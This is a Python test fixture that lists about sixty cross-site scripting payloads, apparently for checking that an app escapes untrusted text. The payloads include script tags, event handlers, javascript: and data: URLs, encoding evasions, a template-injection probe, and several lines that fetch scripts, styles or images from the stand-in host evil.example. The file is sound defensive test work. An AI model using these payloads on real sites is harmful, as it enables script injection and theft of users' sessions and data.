"""Hostile text, for every place the app shows text it did not write.

Each payload would run script, or fetch from another host, if it reached the page as markup.
The remote host is `evil.example` (reserved, never resolves): any request for it is a leak.
"""

REMOTE = "http://evil.example"

PAYLOADS = [
    # Script tags, plain and disguised
    "<script>alert('xss-1')</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert('xss-3')</scr</script>ipt>",
    "<<script>alert('xss-4');//<</script>",
    "<script src=\"data:text/javascript,alert('xss-5')\"></script>",
    "<svg><script>alert('xss-6')</script></svg>",
    "<template><script>alert('xss-7')</script></template>",
    # Event handlers
    "<img src=x onerror=alert('xss-8')>",
    '<img src="x" onerror="alert(\'xss-9\')"',
    "<svg onload=alert('xss-10')>",
    "<body onload=alert('xss-11')>",
    "<details open ontoggle=alert('xss-12')>",
    "<input autofocus onfocus=alert('xss-13')>",
    "<video><source onerror=alert('xss-14')></video>",
    "<audio src=x onerror=alert('xss-15')>",
    "<marquee onstart=alert('xss-16')>x</marquee>",
    "<div onmouseover=alert('xss-17')>hover</div>",
    "<x onclick=alert('xss-18')>click</x>",
    "<select autofocus onfocus=alert('xss-19')>",
    "<textarea autofocus onfocus=alert('xss-20')>",
    # Breaking out of where the text is put
    "\"><script>alert('xss-21')</script>",
    "'><img src=x onerror=alert('xss-22')>",
    "</textarea><script>alert('xss-23')</script>",
    "</title><script>alert('xss-24')</script>",
    "</code></pre><img src=x onerror=alert('xss-25')>",
    "</script><script>alert('xss-26')</script>",
    "--><script>alert('xss-27')</script><!--",
    # javascript:, vbscript: and data: URLs
    "[click me](javascript:alert('xss-28'))",
    "[click me](JaVaScRiPt:alert('xss-29'))",
    "[click me](&#x6A;avascript:alert('xss-30'))",
    "[click me](javascript&colon;alert('xss-31'))",
    "<a href=\"jav&#x09;ascript:alert('xss-32')\">tab</a>",
    "[ref link][r]\n\n[r]: javascript:alert('xss-33')",
    "<javascript:alert('xss-34')>",
    "[vb](vbscript:msgbox('xss-35'))",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgneHNzLTM2Jyk8L3NjcmlwdD4=)",
    "<iframe src=\"javascript:alert('xss-37')\"></iframe>",
    "<form action=\"javascript:alert('xss-38')\"><button>go</button></form>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'xss-39\')">',
    # SVG and MathML
    "<svg><a xlink:href=\"javascript:alert('xss-40')\"><text x=9 y=9>x</text></a></svg>",
    "<svg><animate onbegin=alert('xss-41') attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('xss-42')>",
    "<svg><foreignObject><img src=x onerror=alert('xss-43')></foreignObject></svg>",
    # Markdown image tricks and remote resources
    "![pixel](http://evil.example/pixel.png)",
    "![x](x\"onerror=\"alert('xss-45'))",
    '<img srcset="http://evil.example/a.png 1x">',
    '<div style="background:url(http://evil.example/bg.png)">styled</div>',
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<style>@import 'http://evil.example/x.css';</style>",
    '<base href="http://evil.example/">',
    "<object data=http://evil.example/x.swf></object>",
    "<embed src=http://evil.example/x.swf>",
    '<table background="http://evil.example/t.png"><tr><td>t</td></tr></table>',
    # Entity and Unicode tricks
    "&lt;script&gt;alert('xss-54')&lt;/script&gt;",
    "\uff1cscript\uff1ealert('xss-55')\uff1c/script\uff1e",
    "<img src=x one\u200brror=alert('xss-56')>",
    "<a href=\"\u2028javascript:alert('xss-57')\">line sep</a>",
    "\u202e<script>alert('xss-58')</script>",
    # Template syntax (the server must not evaluate it)
    "{{ request.META }} {% debug %} {{7*7}}",
    # Broken tags
    "<img src=x onerror=alert('xss-60')//",
    "<a href='javascript:alert(`xss-61`)'",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('xss-62')>\">",
]

assert len(PAYLOADS) >= 50
